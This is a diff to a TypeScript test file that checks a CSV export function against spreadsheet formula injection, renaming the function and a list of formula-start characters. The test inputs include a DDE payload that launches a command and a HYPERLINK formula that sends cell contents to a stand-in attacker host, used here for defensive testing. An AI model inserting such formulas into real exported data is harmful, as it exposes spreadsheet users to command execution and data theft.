@@ -1,11 +1,11 @@
 import fc from 'fast-check';
 import { expect, it } from 'vitest';
-import { toCsvLine } from '../../../src/web/server/csv.ts';
+import { toCsvRow } from '../../../src/web/server/csv.ts';
 import { hostileTexts } from '../server/hostile-pages.ts';
 
-const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 const texts = [
-  ...beginnings.flatMap((each) => [each, `${each}1+1`, `${each}=1`, `a${each}b`]),
+  ...formulaStarts.flatMap((each) => [each, `${each}1+1`, `${each}=1`, `a${each}b`]),
   `=cmd|'/C calc'!A0`,
   '=HYPERLINK("https://evil.example?x="&A1;"click")',
   `x;=cmd|'/C calc'!A0;y`,
@@ -15,7 +15,7 @@ const texts = [
   ...hostileTexts,
 ];
 
-/** Parses a line as programs do: by RFC 4180, or like a spreadsheet with semicolons as separators. */
+/** Parses a line by RFC 4180 or, with semicolons, as some spreadsheets do. */
 function parseCells(line: string, separator: ',' | ';'): string[] {
   const cells = [''];
   let isQuoted = false;
@@ -36,21 +36,21 @@ function parseCells(line: string, separator: ',' | ';'): string[] {
 const isFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);
 
 it('no cell in a CSV file starts with a formula, whichever separator the spreadsheet expects', () => {
-  const check = (text: string) => {
-    const line = toCsvLine(['1', text, 'end']);
+  const expectSafeCell = (text: string) => {
+    const line = toCsvRow(['1', text, 'end']);
     for (const separator of [',', ';'] as const)
       expect([text, parseCells(line, separator).filter(isFormula)]).toEqual([text, []]);
   };
-  for (const text of texts) check(text);
-  const pieces = fc.constantFrom(...beginnings, ';', ',', '"', "'", ' ', 'a', '1', '\r\n');
-  fc.assert(fc.property(fc.array(pieces, { maxLength: 8 }), (each) => check(each.join(''))));
+  for (const text of texts) expectSafeCell(text);
+  const pieces = fc.constantFrom(...formulaStarts, ';', ',', '"', "'", ' ', 'a', '1', '\r\n');
+  fc.assert(fc.property(fc.array(pieces, { maxLength: 8 }), (each) => expectSafeCell(each.join(''))));
 });
 
 it('a CSV export changes only cells that start with a formula', () => {
   for (const text of texts) {
-    const [first, second = '', ...rest] = parseCells(toCsvLine(['1', text, 'end']), ',');
+    const [first, second = '', ...rest] = parseCells(toCsvRow(['1', text, 'end']), ',');
     expect([first, rest]).toEqual(['1', ['end', '', '']]);
     expect(second.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
   }
-  expect(toCsvLine(['a; b', "it's", 'a-b', 'Say "x"'])).toBe('"a; b","it\'s","a-b","Say ""x"""\r\n');
+  expect(toCsvRow(['a; b', "it's", 'a-b', 'Say "x"'])).toBe('"a; b","it\'s","a-b","Say ""x"""\r\n');
 });
